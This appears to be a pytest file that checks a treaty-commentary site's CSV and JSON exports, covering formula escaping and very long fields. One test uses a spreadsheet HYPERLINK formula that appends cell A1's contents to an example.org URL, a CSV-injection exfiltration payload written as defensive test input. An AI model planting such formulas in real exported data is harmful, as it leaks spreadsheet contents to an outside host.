"""The data export: the JSON keeps every text as written; the CSV tables cannot run a formula in a
spreadsheet and hold texts of any length the loader accepts."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import yaml

from treatysite import load_dataset, render_site


def _edit(path: Path, **fields: object) -> None:
    record = yaml.safe_load(path.read_text(encoding="utf-8"))
    record.update(fields)
    path.write_text(yaml.safe_dump(record, allow_unicode=True, sort_keys=False), encoding="utf-8")


def _files(data: Path) -> dict[str, str]:
    return {file.path: file.content for file in render_site(load_dataset(data, data.parent)).files}


def test_a_cell_that_starts_like_a_formula_is_kept_as_text(mini_data: Path) -> None:
    formula = '=HYPERLINK("https://example.org/?"&A1,"click")'
    _edit(mini_data / "people" / "samuel-ramani.yml", affiliation=formula, role="+1 and -1, @ once")
    files = _files(mini_data)
    row = next(row for row in csv.DictReader(io.StringIO(files["downloads/csv/people.csv"])) if row["id"] == "samuel-ramani")
    assert (row["affiliation"], row["role"]) == ("'" + formula, "'+1 and -1, @ once")
    people = json.loads(files["downloads/treaty-commentary.json"])["people"]
    assert next(p for p in people if p["id"] == "samuel-ramani")["affiliation"] == formula


def test_a_text_longer_than_the_csv_readers_field_limit_is_exported_and_counted(mini_data: Path) -> None:
    paragraph = "word " * 700  # 3,500 characters: under the paragraph limit
    long_text = "\n\n".join([paragraph.strip()] * 45)  # about 158,000 characters, beyond csv's default 131,072
    _edit(mini_data / "people" / "samuel-ramani.yml", summary=long_text)
    site = render_site(load_dataset(mini_data, mini_data.parent))
    data_page = next(page.content for page in site.pages if page.path == "data/index.md")
    assert "people.csv](../downloads/csv/people.csv) (3 rows)" in data_page
    table = next(file.content for file in site.files if file.path == "downloads/csv/people.csv")
    assert len(long_text) > csv.field_size_limit() and long_text in table
